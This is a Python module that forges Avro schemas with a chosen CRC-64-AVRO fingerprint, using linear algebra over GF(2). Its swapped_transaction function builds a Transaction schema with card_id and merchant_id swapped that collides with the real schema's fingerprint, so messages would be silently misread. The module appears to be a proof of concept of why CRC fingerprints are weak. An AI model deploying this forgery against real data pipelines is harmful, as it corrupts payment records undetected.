"""A CRC-64-AVRO collision on demand: a schema with a chosen fingerprint, by linear algebra.

CRC-64 of a fixed-length string is affine over GF(2) in its bits. So flipping bits of a
tweakable stretch (here: namespace letters that stay valid names) moves the fingerprint by
the XOR of each flip's effect, and 64 independent flips reach any fingerprint.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import fastavro
from fastavro.schema import to_parsing_canonical_form

EMPTY = 0xC15D213AA4D7A795  # the Avro spec's CRC-64 initial value and polynomial
_TABLE = []
for _i in range(256):
    _fp = _i
    for _ in range(8):
        _fp = (_fp >> 1) ^ (EMPTY & -(_fp & 1))
    _TABLE.append(_fp)

# Each tweak letter is 0x61 ('a') with bits 1-3 free: a c e g i k m o, all valid in a name.
_FREE_BITS = (1, 2, 3)


def crc64_avro(data: bytes) -> int:
    """The Avro spec's Rabin fingerprint (CRC-64-AVRO) as an integer."""
    fp = EMPTY
    for byte in data:
        fp = (fp >> 8) ^ _TABLE[(fp ^ byte) & 0xFF]
    return fp


def canonical(schema: dict[str, Any]) -> str:
    return to_parsing_canonical_form(fastavro.parse_schema(copy.deepcopy(schema)))


def _solve(columns: list[int], target: int) -> list[int] | None:
    """Indices of columns whose XOR is target (Gaussian elimination over GF(2)), or None."""
    pivots: dict[int, tuple[int, int]] = {}  # top bit -> (row value, set of columns as a mask)
    for j, col in enumerate(columns):
        value, mask = col, 1 << j
        while value:
            top = value.bit_length() - 1
            if top not in pivots:
                pivots[top] = (value, mask)
                break
            value ^= pivots[top][0]
            mask ^= pivots[top][1]
    value, mask = target, 0
    while value:
        top = value.bit_length() - 1
        if top not in pivots:
            return None
        value ^= pivots[top][0]
        mask ^= pivots[top][1]
    return [j for j in range(len(columns)) if mask >> j & 1]


def collide(target_fp: int, make: Any, length: int = 32) -> dict[str, Any]:
    """A schema make(tweak) whose CRC-64-AVRO equals target_fp (tweak: `length` letters)."""
    base_tweak = "a" * length
    text = canonical(make(base_tweak)).encode()
    at = text.index(base_tweak.encode())
    base = crc64_avro(text)
    columns = []
    for i in range(length):
        for bit in _FREE_BITS:
            flipped = bytearray(text)
            flipped[at + i] ^= 1 << bit
            columns.append(crc64_avro(bytes(flipped)) ^ base)
    chosen = _solve(columns, target_fp ^ base)
    assert chosen is not None, "no solution: try a longer tweak"
    tweak = bytearray(base_tweak.encode())
    for j in chosen:
        tweak[j // len(_FREE_BITS)] ^= 1 << _FREE_BITS[j % len(_FREE_BITS)]
    return make(tweak.decode())


def swapped_transaction(transaction: dict[str, Any]) -> dict[str, Any]:
    """Transaction with card_id and merchant_id swapped, colliding with the real one's fingerprint.

    Read with it, every real Transaction message would have its card and merchant exchanged.
    """
    fields = json.loads(json.dumps(transaction["fields"]))
    names = [f["name"] for f in fields]
    i, j = names.index("card_id"), names.index("merchant_id")
    fields[i]["name"], fields[j]["name"] = "merchant_id", "card_id"

    def make(tweak: str) -> dict[str, Any]:
        return {**transaction, "namespace": f"io.streamlearn.{tweak}", "fields": fields}

    return collide(crc64_avro(canonical(transaction).encode()), make)
